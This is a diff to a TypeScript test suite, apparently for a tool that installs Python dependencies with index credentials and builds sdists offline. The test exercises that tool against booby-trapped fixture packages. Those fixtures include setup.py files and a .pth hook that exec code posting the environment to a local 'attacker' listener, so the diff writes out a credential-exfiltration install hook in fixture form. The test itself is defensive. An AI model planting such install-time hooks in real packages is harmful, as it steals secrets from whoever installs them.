@@ -27,6 +27,8 @@ function postEnvironment(port: number, path: string): string {
   ].join('\n');
 }
 
+const row0 = (repo: string) => envRows(repo)[0]!;
+
 interface Step {
   name: string;
   network: string;
@@ -38,21 +40,30 @@ describe('an sdist-only and a .pth-carrying distribution from an index with cred
     const attacker = await listener();
     const dir = join(repos.scratch, 'index-files');
     mkdirSync(dir, { recursive: true });
-    const sdist = buildSdist(dir, 'leaky', '1.0', {
-      'setup.py': `${postEnvironment(attacker.port, '/sdist')}\nfrom setuptools import setup\nsetup(name="leaky", version="1.0", py_modules=["leaky"])\n`,
-      'leaky.py': 'def leak():\n    return "built offline"\n',
-    });
+    // leaky only as a dependency of pthy (its sdist found in a second round), solo named directly.
+    const sdists = ['leaky', 'solo'].map((name) =>
+      buildSdist(dir, name, '1.0', {
+        'setup.py': `${postEnvironment(attacker.port, `/${name}`)}\nfrom setuptools import setup\nsetup(name="${name}", version="1.0", py_modules=["${name}"])\n`,
+        [`${name}.py`]: `def where():\n    return "${name} built offline"\n`,
+      }),
+    );
     const pthCode = postEnvironment(attacker.port, '/pth');
-    const wheel = buildWheel(dir, 'pthy', '1.0', {
-      'pthy.py': 'def answer():\n    return 42\n',
-      'pthy_hook.pth': `import sys; exec(${JSON.stringify(pthCode)})\n`,
-    });
+    const wheel = buildWheel(
+      dir,
+      'pthy',
+      '1.0',
+      {
+        'pthy.py': 'def answer():\n    return 42\n',
+        'pthy_hook.pth': `import sys; exec(${JSON.stringify(pthCode)})\n`,
+      },
+      ['leaky>=1'],
+    );
     const secret = 'S3cret-download-only';
-    const index = await serveSimpleIndex([sdist, wheel], { user: 'ci', password: secret });
+    const index = await serveSimpleIndex([...sdists, wheel], { user: 'ci', password: secret });
     const repo = repos.newRepo('sdist-pth', {
-      'requirements.txt': 'leaky==1.0\npthy==1.0\n',
+      'requirements.txt': 'pthy==1.0\nsolo==1.0\n',
       'tests/test_it.py':
-        'import leaky, pthy\n\ndef test_both():\n    assert leaky.leak() == "built offline"\n    assert pthy.answer() == 42\n',
+        'import leaky, pthy, solo\n\ndef test_all():\n    assert leaky.where() == "leaky built offline"\n    assert solo.where() == "solo built offline"\n    assert pthy.answer() == 42\n',
     });
     try {
       const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
@@ -64,19 +75,26 @@ describe('an sdist-only and a .pth-carrying distribution from an index with cred
       expect(index.requests.some((q) => q.path === '/files/pthy-1.0-py3-none-any.whl' && q.authorized)).toBe(
         true,
       );
-      expect(index.requests.some((q) => q.path === '/files/leaky-1.0.tar.gz' && q.authorized)).toBe(true);
+      for (const name of ['leaky', 'solo']) {
+        expect(index.requests.some((q) => q.path === `/files/${name}-1.0.tar.gz` && q.authorized)).toBe(true);
+        expect(row0(repo).sources).toMatch(
+          new RegExp(`sdist: ${name}: ${name}-1\\.0\\.tar\\.gz: no wheel; its sdist built offline`),
+        );
+        const build = (JSON.parse(row0(repo).steps) as Step[]).find(
+          (s) => s.name === `build ${name}-1.0.tar.gz`,
+        );
+        expect(build).toMatchObject({ network: 'none', exit_code: 0 });
+      }
       const [row] = envRows(repo);
       expect(row!.status).toBe('built');
-      expect(row!.sources).toMatch(/sdist: leaky: leaky-1\.0\.tar\.gz: no wheel; its sdist built offline/);
       const steps = JSON.parse(row!.steps) as Step[];
-      const build = steps.find((s) => s.name === 'build leaky-1.0.tar.gz')!;
-      expect(build).toMatchObject({ network: 'none', exit_code: 0 });
       expect(steps.find((s) => s.name === 'install')).toMatchObject({ network: 'none', exit_code: 0 });
       // Every step that ran pip or the sdist fetcher with the credentials had a network and installed nothing.
       for (const s of steps.filter((x) => x.name === 'pip' || x.name.startsWith('fetch ')))
         expect(s.network).not.toBe('none');
       const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string }>;
-      expect(resolved).toContainEqual(expect.objectContaining({ name: 'leaky', version: '1.0' }));
+      for (const name of ['leaky', 'solo'])
+        expect(resolved).toContainEqual(expect.objectContaining({ name, version: '1.0' }));
       expect(resolved).toContainEqual(expect.objectContaining({ name: 'pthy', version: '1.0' }));
       expect(`${r.stdout}${r.stderr}${row!.steps}`).not.toContain(secret);
     } finally {
